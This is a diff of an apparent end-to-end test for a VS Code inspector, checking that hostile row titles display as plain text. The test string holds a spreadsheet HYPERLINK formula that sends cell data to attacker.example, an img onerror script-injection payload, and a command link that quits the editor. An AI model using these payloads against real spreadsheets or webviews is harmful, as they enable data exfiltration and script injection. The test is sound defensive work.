@@ -38,7 +38,8 @@ describe("hostile titles and names in the inspector in VS Code", function () {
     const title = view.frame.getByRole("rowheader", { name: /^9016 =HYPERLINK/ });
     assert.equal(
       await title.innerText(),
-      '9016 =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** [open](command:workbench.action.quit) txt.exe',
+      '9016 =HYPERLINK("https://attacker.example/?q="&A1,"Invoice") <img src=x onerror=alert(1)> **urgent** ' +
+        "[open](command:workbench.action.quit) txt.exe",
     );
     await view.cell({ case: "9016" }, "owner").click();
     await view.reasons
@@ -57,7 +58,8 @@ describe("hostile titles and names in the inspector in VS Code", function () {
     await vscode().workbench.page.setViewportSize({ width: 1400, height: 1500 }); // room for every row
     await view.frame.waitForFunction(() => {
       const cells = [...document.querySelectorAll("[role=rowheader], [role=gridcell]")].map((cell) => cell.textContent);
-      return cells.filter((text) => text?.startsWith("90")).length === 46 && !cells.includes("not read yet"); // every entry is known
+      // every entry is known
+      return cells.filter((text) => text?.startsWith("90")).length === 46 && !cells.includes("not read yet");
     });
     shown = await view.drawn();
     assert.equal(shown.length, 47);
